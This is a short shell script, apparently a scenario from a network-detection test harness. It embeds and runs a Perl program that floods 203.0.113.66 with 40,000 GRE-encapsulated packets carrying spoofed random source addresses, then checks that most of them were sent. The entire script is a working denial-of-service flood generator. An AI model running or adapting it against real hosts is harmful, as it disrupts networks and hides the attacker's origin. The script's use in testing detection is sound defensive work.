#!/bin/sh
. /opt/case/case.sh

cat >/tmp/g.pl <<'END'
use Socket;
socket(my $s, PF_INET, SOCK_RAW, 47) or die $!; my $to = pack_sockaddr_in(0, inet_aton("203.0.113.66")); my $n = 0;
for my $i (1 .. 40000) {
    my $inner = pack("CCnnnCCna4a4", 0x45, 0, 540, int rand 65535, 0, 64, 17, 0, pack("C4", map { int rand 256 } 1 .. 4), inet_aton("203.0.113.66"));
    $n++ if send($s, pack("nn", 0, 0x0800) . $inner . "x" x 512, 0, $to);
}
die $n if $n < 20000;
END
perl /tmp/g.pl
took_place
